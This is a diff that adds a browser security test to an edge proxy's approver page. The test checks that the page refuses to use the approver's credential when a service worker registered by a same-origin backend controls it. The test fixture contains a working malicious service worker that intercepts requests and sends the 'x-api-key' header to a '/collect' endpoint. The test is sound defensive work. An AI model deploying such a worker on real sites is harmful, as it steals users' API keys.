@@ -306,6 +306,54 @@ public sealed class ApproverPageTests(SystemChromium chromium) : IClassFixture<S
     }
 
     [Fact]
+    public async Task ApproverPage_ServiceWorkerOfABackendControlsIt_TakesNoCredential()
+    {
+        // Every backend behind the edge shares the page's origin. A service worker one of them registers at the root (a
+        // progressive web app does) controls the page too: it received the page's requests, the approver's key included.
+        Assertions.SetDefaultExpectTimeout(15_000);
+        using var backend = Backend.Start();
+        backend.Server.Given(WireMock.RequestBuilders.Request.Create().WithPath("/portal").UsingGet())
+            .RespondWith(WireMock.ResponseBuilders.Response.Create().WithHeader("Content-Type", "text/html").WithBody("""
+                <!doctype html><title>portal</title>
+                <script>
+                  navigator.serviceWorker.register('/sw.js', { scope: '/' }).then(() => navigator.serviceWorker.ready)
+                    .then(() => { document.title = 'installed'; }, (e) => { document.title = 'failed: ' + e; });
+                </script>
+                """));
+        backend.Server.Given(WireMock.RequestBuilders.Request.Create().WithPath("/sw.js").UsingGet())
+            .RespondWith(WireMock.ResponseBuilders.Response.Create().WithHeader("Content-Type", "text/javascript").WithBody("""
+                self.addEventListener('install', () => self.skipWaiting());
+                self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+                self.addEventListener('fetch', (event) => {
+                  const key = event.request.headers.get('x-api-key');
+                  if (key) {
+                    event.waitUntil(fetch('/collect?key=' + encodeURIComponent(key)));
+                  }
+                });
+                """));
+        await using var edge = await EdgeHost.StartAsync(Create(backend.Url));
+        await RequestApprovalAsync(edge.Client);
+        await using var context = await chromium.Browser.NewContextAsync(new BrowserNewContextOptions { Locale = "en-GB", TimezoneId = "UTC" });
+        var portal = await context.NewPageAsync();
+        await portal.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/portal");
+        await Assertions.Expect(portal).ToHaveTitleAsync("installed");
+        var page = await context.NewPageAsync();
+        var requests = new List<string>();
+        page.Request += (_, request) => requests.Add(request.Url);
+        await page.GotoAsync($"http://127.0.0.1:{edge.ProxyPort}/_edge/approvals/ui/");
+        var controlled = await page.EvaluateAsync<bool>("() => navigator.serviceWorker.controller !== null");
+
+        await SignInAsync(page, BobKey);
+
+        await Assertions.Expect(page.Locator("#status")).ToHaveTextAsync(new System.Text.RegularExpressions.Regex("^A service worker of this origin"));
+        Assert.True(controlled);
+        Assert.Equal("", await page.GetByLabel("Approver credential").InputValueAsync());
+        Assert.True(await page.Locator("#approvals").IsHiddenAsync());
+        Assert.DoesNotContain(requests, url => url.Contains("/_edge/approvals?", StringComparison.Ordinal));
+        Assert.DoesNotContain(backend.Received, entry => entry.RequestMessage!.Path == "/collect");
+    }
+
+    [Fact]
     public async Task ApproverPage_HostileRequesterPathAndQuery_ShowAsTextAndRunNoScript()
     {
         // The requester is the identity provider's subject, the path and query are the client's: markup, a closing script
